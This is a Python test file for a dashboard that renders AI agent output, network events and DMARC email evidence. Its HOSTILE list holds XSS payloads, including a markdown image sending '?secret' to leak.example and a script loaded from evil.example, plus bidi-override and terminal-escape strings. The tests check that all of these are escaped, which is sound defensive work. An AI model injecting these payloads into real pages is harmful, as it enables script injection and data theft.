from html.parser import HTMLParser

import pytest

from airut_common.contracts.v1 import EmailEvidence
from airut_dashboard.model import Change
from airut_dashboard.render import Renderer, duration, evidence_lines, markdown, size, tool_summary


class Elements(HTMLParser):
    """The tags, attribute names and links that a browser would see."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.names: set[str] = set()
        self.attributes: set[str] = set()
        self.links: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag, attrs) -> None:
        self.names.add(tag)
        self.attributes |= {name for name, _ in attrs}
        self.links += [value or "" for name, value in attrs if name in {"href", "src"}]


HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[x](javascript:alert(1))",
    "![x](https://leak.example/?secret)",
    '<a href="data:text/html,x">x</a>',
    "<style>*{display:none}</style>",
    "</li></ol><script src=//evil.example></script>",
]


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize(
    "kind", ["text", "prompt", "tool_result", "tool_use", "thinking", "unknown", "result", "system"]
)
def test_row_56_agent_output_is_never_markup(said, text, kind) -> None:
    html = Renderer().output(Change(1, "t1", said(text, type=kind, tool=text, input={"command": text})))
    found = Elements(html)
    assert found.names <= {"li", "div", "p", "pre", "code", "b", "details", "summary", "span", "a"}
    assert not {name for name in found.attributes if name.startswith("on")}
    assert all(link.startswith(("http://", "https://", "mailto:")) for link in found.links)


@pytest.mark.parametrize(
    "kind", ["text", "prompt", "tool_result", "tool_use", "thinking", "unknown", "result", "system"]
)
def test_row_43_nothing_in_agent_output_turns_the_reading_direction_or_hides(said, kind) -> None:
    text = "pay \u202eevil\u2066x\u200b\u061c\x1b[2J\x00\ufeff\U000e0041 now\n\tgrün 👩\u200d💻"
    change = Change(1, "t1", said(text, type=kind, tool=text, input={"command": text, text: text}))
    html = Renderer().output(change)
    assert not set(html) & set("\u202e\u2066\u200b\u061c\x1b\x00\ufeff\U000e0041")
    assert "grün 👩" in html
    link = Renderer().output(Change(1, "t1", said("[a&#x202e;b](https://x.example/)", type=kind)))
    assert "\u202e" not in link


@pytest.mark.parametrize("text", HOSTILE)
def test_row_37_a_hostile_host_or_path_is_text(request_event, text) -> None:
    html = Renderer().network_row(
        Change(1, "t1", request_event(host=text, path=text, reason=text, method=text))
    )
    assert "<script" not in html
    assert "<img" not in html


def test_a_request_under_way_says_so(request_event) -> None:
    event = request_event(decision="info", reason="started", request=3)
    html = Renderer().network_row(Change(4, "t", event))
    assert "under way</span>" in html
    assert 'data-key="4"' in html
    assert 'data-key="4"' in Renderer().network_row(Change(9, "t", request_event(request=3), 4))


def test_what_was_taken_out_is_shown(request_event) -> None:
    event = request_event(stripped=("cookie", "?<b>key"), tags=("scrubbed",))
    html = Renderer().network_row(Change(1, "t", event))
    assert "without cookie, ?&lt;b&gt;key" in html
    assert "the answer held a credential" in html
    assert "taken out" not in Renderer().network_row(Change(1, "t", request_event()))


def test_row_37_lost_events_are_shown(request_event) -> None:
    event = request_event(kind="session", decision="info", reason="events-dropped", dropped=12)
    assert "12 events were lost" in Renderer().network_row(Change(1, "t", event))
    assert "lost" not in Renderer().network_row(Change(1, "t", request_event()))


def test_row_78_tools_that_were_cut_are_shown(request_event) -> None:
    html = Renderer().network_row(Change(1, "t", request_event(tags=("tools-cut",))))
    assert "without server-side tools" in html


def test_a_subject_is_escaped_in_row_and_header(state) -> None:
    from airut_dashboard.model import ReadModel

    model = ReadModel()
    model.apply(1, state(subject="<b>x</b>", sender="<i>@x", reason=None))
    view = model.task("t1")
    assert "<b>x</b>" not in Renderer().task_row(view)
    assert "&lt;b&gt;x" in Renderer().task_header(view)


def test_markdown_keeps_what_people_read() -> None:
    html = markdown(
        "**bold** `code`\n\n- one\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n[site](https://example.com)"
    )
    for expected in (
        "<strong>bold</strong>",
        "<code>code</code>",
        "<li>one</li>",
        "<td>1</td>",
        'href="https://example.com"',
    ):
        assert expected in html


def test_a_tool_call_shows_its_main_argument(said) -> None:
    assert tool_summary(said(type="tool_use", input={"command": "ls", "timeout": 3})) == "ls"
    assert tool_summary(said(type="tool_use", input={"odd": 1})) == '{"odd": 1}'


@pytest.mark.parametrize(
    ("seconds", "text"),
    [(None, ""), (0.44, "0.4 s"), (59.2, "59 s"), (185, "3 min 05 s"), (7620, "2 h 07 min")],
)
def test_durations(seconds, text) -> None:
    assert duration(seconds) == text


@pytest.mark.parametrize(
    ("count", "text"), [(0, "0 B"), (999, "999 B"), (1500, "1.5 kB"), (3_200_000_000, "3.2 GB")]
)
def test_sizes(count, text) -> None:
    assert size(count) == text


RECORD = {
    "verdict": "proven",
    "rule": "dmarc",
    "explanation": "the author's domain lovelace.example is proven",
    "judged_at": "2026-11-24T13:57:09Z",
    "author": "ada@lovelace.example",
    "dmarc": {
        "asked": ["_dmarc.lovelace.example"], "record_at": "lovelace.example", "record": "v=DMARC1; p=reject",
        "organizational_domain": "lovelace.example", "subdomain_exists": None, "policy": "reject",
        "strict_dkim": False, "strict_spf": False,
    },
}  # fmt: skip


def evidence(record, **more: str) -> EmailEvidence:
    given = {"domain": "lovelace.example", "detail": "DKIM pass", "rule": "*@lovelace.example"}
    return EmailEvidence(method="dmarc", record=record, **(given | more))


def test_a_decision_is_shown_line_by_line() -> None:
    lines = evidence_lines(evidence(RECORD))
    assert ("sender list", "*@lovelace.example") in lines
    assert ("sender list", "*@lovelace.example of group:team") in evidence_lines(
        evidence(RECORD, group="team")
    )
    assert ("verdict", "proven (dmarc)") in lines
    assert ("DMARC", "at lovelace.example: v=DMARC1; p=reject; policy reject") in lines


@pytest.mark.parametrize("record", [None, {}, {"verdict": "who knows"}])
def test_a_record_of_another_time_leaves_the_summary(record) -> None:
    assert evidence_lines(evidence(record)) == [
        ("sender list", "*@lovelace.example"),
        ("proven by", "DKIM pass"),
    ]


@pytest.mark.parametrize("text", HOSTILE)
def test_what_a_domain_says_of_itself_is_text(text: str) -> None:
    record = RECORD | {"dmarc": RECORD["dmarc"] | {"record": text + "\u202e\x1b[2J"}, "explanation": text}
    renderer = Renderer()
    html = renderer._fragment("sender", evidence=evidence(record, detail=text, rule=text, domain=text))
    found = Elements(html)
    assert found.names == {"details", "summary", "dl", "dt", "dd"}
    assert found.attributes == {"class", "id"}
    assert "\u202e" not in html
